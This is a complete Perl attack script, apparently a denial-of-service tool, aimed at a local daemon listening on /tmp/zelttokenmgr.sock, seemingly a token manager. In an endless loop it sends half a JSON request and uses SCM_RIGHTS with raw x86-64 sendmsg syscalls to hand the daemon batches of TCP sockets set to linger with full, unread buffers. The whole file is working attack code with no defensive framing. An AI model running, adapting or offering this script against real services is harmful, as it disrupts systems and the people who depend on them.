#!/usr/bin/perl
# Repeatedly sends the daemon half a request with TCP sockets that take long to close (SO_LINGER,
# socket(7)), on kernels that allow it. Uses the system call numbers of x86-64.
use strict;
use warnings;
use IO::Handle;
use Socket;

my $sendmsg = 46;    # syscall(2)
my @held;
socket my $listener, PF_INET, SOCK_STREAM, 0 or die;
listen $listener, 128 or die;

# A socket with a full buffer that nobody reads.
sub lingering {
  socket my $socket, PF_INET, SOCK_STREAM, 0 or die;
  connect $socket, getsockname $listener or die "connect: $!";
  accept my $peer, $listener or die;
  $socket->blocking(0);
  1 while syswrite $socket, 'x' x 65536;
  setsockopt $socket, SOL_SOCKET, SO_LINGER, pack 'ii', 1, 100;
  push @held, $peer;
  return $socket;
}

while (1) {
  my @sockets = map { lingering() } 1 .. 20;
  socket my $daemon, PF_UNIX, SOCK_STREAM, 0 or die;
  connect $daemon, pack_sockaddr_un('/tmp/zelttokenmgr.sock') or die "connect: $!";
  my $text = '{';
  my $vector = pack 'PQ', $text, 1;
  my $control = pack 'Qi*', 16 + 4 * @sockets, SOL_SOCKET, SCM_RIGHTS, map { fileno $_ } @sockets;
  my $message = pack 'x16PQPQx8', $vector, 1, $control, length $control;
  syscall($sendmsg, fileno $daemon, $message, 0) == 1 or die "sendmsg: $!";
  splice @held, 0, 20 if @held > 200;
}
